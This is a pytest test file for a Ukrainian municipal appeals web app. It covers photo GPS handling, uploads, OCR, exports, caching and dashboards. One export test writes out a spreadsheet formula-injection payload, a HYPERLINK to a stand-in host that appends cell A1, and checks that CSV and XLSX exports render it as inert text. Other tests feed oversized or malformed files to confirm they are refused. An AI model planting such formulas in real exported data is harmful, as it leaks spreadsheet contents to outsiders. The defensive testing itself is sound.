"""Web pages: the resident's form with photos, receipt, office work, dashboard, exports, public list."""

import io
import re

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from hromada.apps.accounts.models import StaffRole
from hromada.apps.appeals import actions
from hromada.apps.appeals.models import Appeal, AppealPhoto, Category, Channel, PaperScan
from hromada.core import tenancy
from hromada.core.audit.models import AuditRecord
from hromada.testing import factories


def jpeg_with_gps(lat=49.79, lon=30.12) -> bytes:
    image = Image.new("RGB", (64, 48), "red")
    exif = Image.Exif()
    gps = {1: "N", 2: (49.0, 47.0, 24.0), 3: "E", 4: (30.0, 7.0, 12.0)}
    exif[0x8825] = gps
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def form(world, **extra):
    return {"type": "complaint", "category": world.pothole.pk, "text": "Вибоїна біля будинку",
            "address": "вул. Соборна, 5", **extra}


def test_web_form_with_photo_reads_gps_and_strips_it(client, world):
    client.force_login(world.resident)
    photo = SimpleUploadedFile("p.jpg", jpeg_with_gps(), content_type="image/jpeg")
    response = client.post("/c/kyiv/appeals/new/", {**form(world), "photos": [photo], "use_photo_location": "on"})
    assert response.status_code == 302
    with tenancy.scope(world.community):
        appeal = Appeal.objects.get()
        stored = AppealPhoto.objects.get()
        assert appeal.district_id == world.centre.pk and round(appeal.latitude, 2) == 49.79
        with Image.open(stored.image.path) as image:
            assert not image.getexif().get_ifd(0x8825)
    receipt = client.get(response["Location"])
    assert appeal.number.encode() in receipt.content and b"<svg" in receipt.content
    pdf = client.get(f"/c/kyiv/appeals/{appeal.pk}/receipt.pdf")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")


def test_a_photos_place_is_not_the_problems_place_unless_the_resident_confirms_it(client, world):
    client.force_login(world.resident)
    page = client.get("/c/kyiv/appeals/new/").content.decode()
    assert 'name="use_photo_location"' in page and 'name="description_public"' in page
    assert "shown on the public map" in page or "на публічній мапі" in page
    photo = SimpleUploadedFile("p.jpg", jpeg_with_gps(), content_type="image/jpeg")
    assert client.post("/c/kyiv/appeals/new/", {**form(world), "photos": [photo]}).status_code == 302
    with tenancy.scope(world.community):
        appeal = Appeal.objects.get()
        stored = AppealPhoto.objects.get()
    assert appeal.latitude is None and appeal.longitude is None and appeal.district_id is None
    assert round(stored.exif_latitude, 2) == 49.79  # kept with the photo, for the staff handling it
    assert appeal.description_public is False
    assert client.get("/c/kyiv/appeals/map.geojson").json()["features"] == []


@pytest.mark.parametrize("upload,message", [
    (SimpleUploadedFile("x.jpg", b"not an image at all", content_type="image/jpeg"), b"is not a photo"),
    (SimpleUploadedFile("big.jpg", b"\xff" * (50 * 1024 * 1024), content_type="image/jpeg"), b"the limit is 10 MB"),
])
def test_bad_photos_are_refused(client, world, upload, message):
    client.force_login(world.resident)
    response = client.post("/c/kyiv/appeals/new/", {**form(world), "photos": [upload]})
    assert response.status_code == 400 and message in response.content
    with tenancy.scope(world.community):
        assert not Appeal.objects.exists()


def test_too_long_text_gets_a_clear_error(client, world):
    client.force_login(world.resident)
    response = client.post("/c/kyiv/appeals/new/", form(world, text="а" * 100_000))
    assert response.status_code == 400 and b"at most 10000 characters" in response.content


def test_operator_entry_finds_or_creates_resident_and_is_audited(client, world):
    client.force_login(world.operator)
    response = client.post("/c/kyiv/appeals/office/new/", {
        **form(world), "full_name": "Ганна Телефонна", "phone": "+380671234567"})
    assert response.status_code == 302
    with tenancy.scope(world.community):
        appeal = Appeal.objects.get()
    assert appeal.channel == Channel.OPERATOR and appeal.entered_by_id == world.operator.pk
    assert appeal.author.full_name == "Ганна Телефонна"
    assert AuditRecord.objects.filter(action="appeals.register_on_behalf", actor=world.operator).exists()


def _text_image(text: str) -> bytes:
    from PIL import ImageDraw, ImageFont

    image = Image.new("RGB", (1400, 200), "white")
    font = ImageFont.truetype("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf", 48)
    ImageDraw.Draw(image).text((30, 60), text, fill="black", font=font)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


@pytest.mark.skipif(not __import__("hromada.apps.appeals.media", fromlist=["x"]).ocr_available(),
                    reason="tesseract with ukr not installed (make system-deps)")
def test_paper_letter_is_ocrd_in_ukrainian_and_registered(client, world):
    client.force_login(world.operator)
    scan = SimpleUploadedFile("letter.png", _text_image("Прошу відремонтувати дорогу"), content_type="image/png")
    response = client.post("/c/kyiv/appeals/office/scans/", {"file": scan})
    assert response.status_code == 302
    from hromada.core.tasks.worker import run_due_tasks as run_jobs

    run_jobs()  # the worker recognises the text
    with tenancy.scope(world.community):
        stored = PaperScan.objects.get()
    assert "відремонтувати" in stored.ocr_text.lower()
    response = client.post(response["Location"], {**form(world), "text": "Прошу відремонтувати дорогу",
                                                  "full_name": "Петро Паперовий"})
    assert response.status_code == 302
    with tenancy.scope(world.community):
        appeal = Appeal.objects.get()
        assert appeal.channel == Channel.PAPER and appeal.attachments.count() == 1


def test_pdf_with_too_many_pages_is_refused(client, world):
    import pypdfium2 as pdfium

    document = pdfium.PdfDocument.new()
    for _ in range(11):
        document.new_page(595, 842)
    out = io.BytesIO()
    document.save(out)
    client.force_login(world.operator)
    response = client.post("/c/kyiv/appeals/office/scans/",
                           {"file": SimpleUploadedFile("bomb.pdf", out.getvalue(), content_type="application/pdf")})
    assert response.status_code == 400 and b"at most 10" in response.content
    with tenancy.scope(world.community):
        assert not PaperScan.objects.exists()


def _many(world, n):
    with tenancy.scope(world.community):
        for i in range(n):
            actions.appeal_register(community=world.community, text=f"Яма {i}", category=world.pothole,
                                    author=actions.Author(user=world.resident), latitude=49.79, longitude=30.12)


def test_queue_dashboard_and_public_list_queries_do_not_grow(client, world, django_assert_max_num_queries):
    _many(world, 3)
    client.force_login(world.executor)
    with django_assert_max_num_queries(12):
        small = client.get("/c/kyiv/appeals/office/queue/")
    _many(world, 12)
    with django_assert_max_num_queries(12):
        big = client.get("/c/kyiv/appeals/office/queue/")
    assert small.status_code == big.status_code == 200 and big.content.count(b"KY-20") == 15
    client.force_login(world.controller)
    dash = client.get("/c/kyiv/appeals/office/dashboard/")
    assert re.search(rb'<span class="stat__value">15</span>\s*<span class="stat__label"><a [^>]*>open</a>',
                     dash.content)
    with django_assert_max_num_queries(12):
        drill = client.get("/c/kyiv/appeals/office/list/?kind=open")
    assert drill.content.count(b"KY-20") == 15
    client.logout()
    with django_assert_max_num_queries(8):
        public = client.get("/c/kyiv/appeals/")
    assert public.content.count(b">KY-20") == 15 and world.resident.full_name.encode() not in public.content
    assert b"5, " not in public.content  # no home address


def test_csv_and_xlsx_exports(client, world):
    _many(world, 2)
    client.force_login(world.controller)
    csv_response = client.get("/c/kyiv/appeals/office/export.csv?kind=open")
    body = b"".join(csv_response.streaming_content).decode()
    assert body.count("KY-20") == 2 and "number,registered_at" in body
    xlsx = client.get("/c/kyiv/appeals/office/export.xlsx?kind=open")
    from openpyxl import load_workbook
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert sheet.max_row == 3
    client.force_login(world.executor)
    assert client.get("/c/kyiv/appeals/office/export.csv").status_code == 403


def test_executor_works_appeal_through_office_pages(client, world):
    _many(world, 1)
    with tenancy.scope(world.community):
        appeal = Appeal.objects.get()
    client.force_login(world.executor)
    client.post(f"/c/kyiv/appeals/office/{appeal.pk}/take/")
    client.post(f"/c/kyiv/appeals/office/{appeal.pk}/answer/", {"answer": "Закладено"})
    client.force_login(world.housing_executor)
    assert client.post(f"/c/kyiv/appeals/office/{appeal.pk}/answer/", {"answer": "x"}).status_code == 404
    client.force_login(world.resident)
    client.post(f"/c/kyiv/appeals/{appeal.pk}/rate/", {"rating": "5", "comment": "Дякую"})
    page = client.get(f"/c/kyiv/appeals/{appeal.pk}/")
    assert "Закладено".encode() in page.content and b"Closed" in page.content and b"executor" in page.content


def test_api_resident_files_and_reads_own_appeal(client, world):
    client.force_login(world.resident)
    created = client.post("/c/kyiv/api/v1/appeals/", {"text": "Яма", "category": "pothole",
                                                      "address": "вул. Соборна, 5"}, content_type="application/json")
    assert created.status_code == 201 and created.json()["status"] == "routed"
    bad = client.post("/c/kyiv/api/v1/appeals/", {"text": "Яма", "category": "nope", "address": "x"},
                      content_type="application/json")
    assert bad.status_code == 400 and bad.json()["errors"][0]["code"] == "unknown_category"
    detail = client.get(f"/c/kyiv/api/v1/appeals/{created.json()['id']}/").json()
    assert detail["events"][0]["kind"] == "register"


def _token(html: str) -> str:
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)


def test_public_list_is_cached_for_anonymous_visitors_with_their_own_csrf_token(client, world):
    _many(world, 1)
    first = client.get("/c/kyiv/appeals/")
    _many(world, 1)  # registered after the page was rendered: anonymous visitors see it within seconds
    other = Client(enforce_csrf_checks=True)
    cached = other.get("/c/kyiv/appeals/")
    assert first.content.count(b">KY-20") == cached.content.count(b">KY-20") == 1
    # The cached page carries the second visitor's own token, which the language switch accepts.
    assert _token(cached.content.decode()) != _token(first.content.decode())
    switched = other.post("/i18n/setlang/", {"language": "en", "next": "/c/kyiv/appeals/",
                                             "csrfmiddlewaretoken": _token(cached.content.decode())})
    assert switched.status_code == 302
    english = other.get("/c/kyiv/appeals/")  # another language is another page
    assert b"Problems reported by residents" in english.content
    assert b"<td>\xf0\x9f\x9a\xa7 Potholes</td>" in english.content
    assert b'<strong class="tag tag--blue">Routed</strong>' in english.content
    client.force_login(world.resident)  # signed in: always rendered afresh, with the "report" link
    own = client.get("/c/kyiv/appeals/")
    assert own.content.count(b">KY-20") == 2 and b"/c/kyiv/appeals/new/" in own.content


def test_a_granted_role_opens_the_queue_on_the_next_request(client, world):
    person = factories.make_user(community=world.community)
    client.force_login(person)
    assert client.get("/c/kyiv/appeals/office/queue/").status_code == 403
    with tenancy.scope(world.community):
        StaffRole.objects.create(community=world.community, user=person, role="executor", department=world.roads)
    assert client.get("/c/kyiv/appeals/office/queue/").status_code == 200


def test_queue_marks_overdue_rows_and_dashboard_links_each_row(client, world):
    with time_machine.travel("2026-01-05 09:00 +02:00", tick=False):
        _many(world, 1)  # due 15 days later: long overdue by now
    _many(world, 1)
    with tenancy.scope(world.community):
        late, fresh = Appeal.objects.order_by("registered_at")
    client.force_login(world.executor)
    html = client.get("/c/kyiv/appeals/office/queue/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert (f'<tr class="overdue"><td><a href="/c/kyiv/appeals/office/{late.pk}/">{late.number}</a></td>'
            '<td>Potholes</td><td>Дороги</td><td><strong class="tag tag--blue">Routed</strong></td>') in html
    assert '<strong class="tag tag--red">overdue</strong>' in html
    assert f'<tr><td><a href="/c/kyiv/appeals/office/{fresh.pk}/">' in html
    client.force_login(world.controller)
    html = client.get("/c/kyiv/appeals/office/dashboard/").content.decode()
    assert (f'<tr><th scope="row">Дороги</th><td class="num"><a href="/c/kyiv/appeals/office/list/?kind=open&amp;'
            f'department={world.roads.pk}">2</a></td><td class="num"><a href="/c/kyiv/appeals/office/list/?kind='
            f'overdue&amp;department={world.roads.pk}">1</a></td>') in html


def test_office_exports_never_hand_a_formula_to_the_spreadsheet(client, world):
    from openpyxl import load_workbook

    formula = '=HYPERLINK("https://example.org/?"&A1;"Вибоїни")'
    with tenancy.scope(world.community):
        Category.objects.filter(pk=world.pothole.pk).update(name_uk=formula, name_en=formula)
    _many(world, 1)
    client.force_login(world.controller)
    body = b"".join(client.get("/c/kyiv/appeals/office/export.csv?kind=open").streaming_content).decode()
    assert "'" + formula.replace('"', '""') in body  # CSV: an apostrophe makes it text
    xlsx = client.get("/c/kyiv/appeals/office/export.xlsx?kind=open")
    cell = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active["F2"]
    assert (cell.value, cell.data_type) == (formula, "s")  # XLSX: the text as written, typed as text


@pytest.mark.parametrize("language", ["en", "uk"])
def test_statistics_page_charts_each_figure_with_its_table(client, world, settings, language):
    with tenancy.scope(world.community):
        for _n in range(3):
            actions.appeal_register(community=world.community, text="Вибоїна на дорозі", category=world.pothole,
                                    author=actions.Author(user=world.resident))
    settings.LANGUAGE_CODE = language
    html = client.get("/c/kyiv/appeals/statistics/").content.decode()
    assert html.count('role="img"') == 4 and "style=" not in html
    tables = re.findall(r"<table.*?</table>", html, re.S)
    assert len(tables) == 4
    month, by_status, by_category, by_department = tables
    if language == "en":
        assert "Received and answered by month" in html and "Potholes" in by_category
        assert re.search(r"<th scope=\"row\">Potholes</th><td class=\"number\">3</td>", by_category)
    else:
        assert "Надійшло" in month and "Вибоїни" in by_category
    assert re.search(r'<th scope="row">Дороги</th><td class="number">3</td>', by_department)
    assert re.search(r'<td class="number">3</td><td class="number">0</td></tr></tbody>', month)  # this month
    assert sum(int(n) for n in re.findall(r'<td class="number">(\d+)</td>', by_status)) == 3
